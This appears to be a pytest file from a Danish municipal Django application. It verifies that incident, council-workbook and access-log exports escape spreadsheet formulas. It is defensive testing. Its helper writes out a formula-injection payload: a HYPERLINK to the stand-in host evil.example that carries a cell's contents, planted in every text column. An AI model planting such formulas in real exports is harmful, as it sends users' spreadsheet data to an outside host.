"""No export hands a spreadsheet a formula: a formula planted in every text column of every
export (the incident CSV and Excel files, the council workbook, the access-log CSV) comes out
as text with a leading apostrophe, and no cell of any file begins like a formula."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from actionplan.models import Assessment
from byrum.models import AccessLog
from byrum.spreadsheets import FORMULA_START, cell
from meetings.models import Meeting
from tests.actionplan.factories import (
    ActionItemFactory,
    ActionPlanFactory,
    AssessmentFactory,
    GoalFactory,
    GroupFactory,
    InitiativeFactory,
    OrganisationFactory,
    UserFactory,
)
from tests.incidents.factories import IncidentFactory, PlaceFactory, SmallJobFactory
from tests.meetings.factories import AgendaItemFactory, DecisionFactory, MeetingFactory

pytestmark = pytest.mark.django_db


def formula(column):
    """A different live formula per column, so each column is seen to be escaped."""
    return f'=HYPERLINK("http://evil.example/?{column}="&B2,"Åbn")'


def csv_cells(response, delimiter):
    text = response.getvalue().decode("utf-8-sig")  # streamed or not
    return [value for row in csv.reader(io.StringIO(text), delimiter=delimiter) for value in row]


def xlsx_cells(response):
    workbook = load_workbook(io.BytesIO(response.getvalue()))
    cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula cell at all
    return [c.value for c in cells]


def assert_escaped(cells, columns):
    texts = [value for value in cells if isinstance(value, str)]
    assert not [t for t in texts if t.lstrip(" ").startswith(FORMULA_START)]
    for column in columns:
        assert "'" + formula(column) in texts, column


def test_the_escape_leaves_figures_and_plain_text_alone():
    assert cell(-5) == -5 and cell(None) is None and cell("Klostertorvet") == "Klostertorvet"
    assert cell(datetime.date(2026, 1, 1)) == datetime.date(2026, 1, 1)
    for text in ("=1+2", "+45 ringede", "-2", "@SUM(A1)", "\t=1", "\r=1", "  =1", "＝1"):
        assert cell(text) == "'" + text


INCIDENT_COLUMNS = ["place", "city", "description", "follow_up_note", "reporter"]


@pytest.fixture
def planted_incident(people):
    reporter = UserFactory(first_name=formula("reporter"), last_name="")
    return IncidentFactory(
        place=PlaceFactory(name=formula("place"), city=formula("city")),
        description=formula("description"),
        follow_up_note=formula("follow_up_note"),
        reported_by=reporter,
    )


@pytest.mark.parametrize("url", ["incidents:export_csv", "incidents:export_xlsx"])
def test_the_incident_exports_escape_every_text_column(clients, planted_incident, url):
    response = clients.consultant.get(reverse(url))
    assert response.status_code == 200
    cells = csv_cells(response, ";") if url.endswith("csv") else xlsx_cells(response)
    assert_escaped(cells, INCIDENT_COLUMNS)


WORKBOOK_COLUMNS = [
    "plan",
    "goal",
    "success_criteria",
    "goal_note",
    "initiative",
    "organisation",
    "place",
    "city",
    "job_place",
    "group",
    "meeting",
    "decision",
    "evaluation_note",
]


def test_the_council_workbook_escapes_every_text_column(clients, people):
    today = timezone.localdate()
    plan = ActionPlanFactory(
        title=formula("plan"),
        period_start=today - datetime.timedelta(days=365),
        period_end=today + datetime.timedelta(days=365),
    )
    goal = GoalFactory(
        plan=plan, text=formula("goal"), success_criteria=formula("success_criteria")
    )
    AssessmentFactory(goal=goal, date=today - datetime.timedelta(days=3), note=formula("goal_note"))
    organisation = OrganisationFactory(name=formula("organisation"))
    InitiativeFactory(plan=plan, title=formula("initiative"), responsible_organisation=organisation)
    place = PlaceFactory(name=formula("place"), city=formula("city"))
    job_place = PlaceFactory(name=formula("job_place"))
    plan.places.set([place, job_place])  # the plan's area: the workbook counts only there
    IncidentFactory(place=place)
    SmallJobFactory(place=job_place, date=today)
    group = GroupFactory(name=formula("group"))
    plan.groups.add(group)  # the plan's overdue items and decisions are its groups'
    ActionItemFactory(
        group=group,
        responsible_organisation=organisation,
        due=today - datetime.timedelta(days=5),
    )
    meeting = MeetingFactory(
        group=group,
        title=formula("meeting"),
        state=Meeting.State.MINUTES_APPROVED,
        start=timezone.now() - datetime.timedelta(days=2),
    )
    DecisionFactory(agenda_item=AgendaItemFactory(meeting=meeting), text=formula("decision"))
    Assessment.objects.create(
        plan=plan,
        point=Assessment.Point.INVOLVEMENT,
        date=today - datetime.timedelta(days=1),
        status=Assessment.Status.ON_TRACK,
        note=formula("evaluation_note"),
    )
    response = clients.steering.get(
        reverse("dashboard_report_xlsx"), {"plan": plan.pk, "weeks": 4, "until": today}
    )
    assert response.status_code == 200
    assert_escaped(xlsx_cells(response), WORKBOOK_COLUMNS)


def test_the_access_log_export_escapes_every_text_column(clients, people):
    AccessLog.objects.create(
        username=formula("user"),
        action="searched",
        query=formula("query"),
        path=formula("path"),
    )
    response = clients.admin.get(reverse("access_log_export"))
    assert response.status_code == 200
    assert_escaped(csv_cells(response, ","), ["user", "query", "path"])
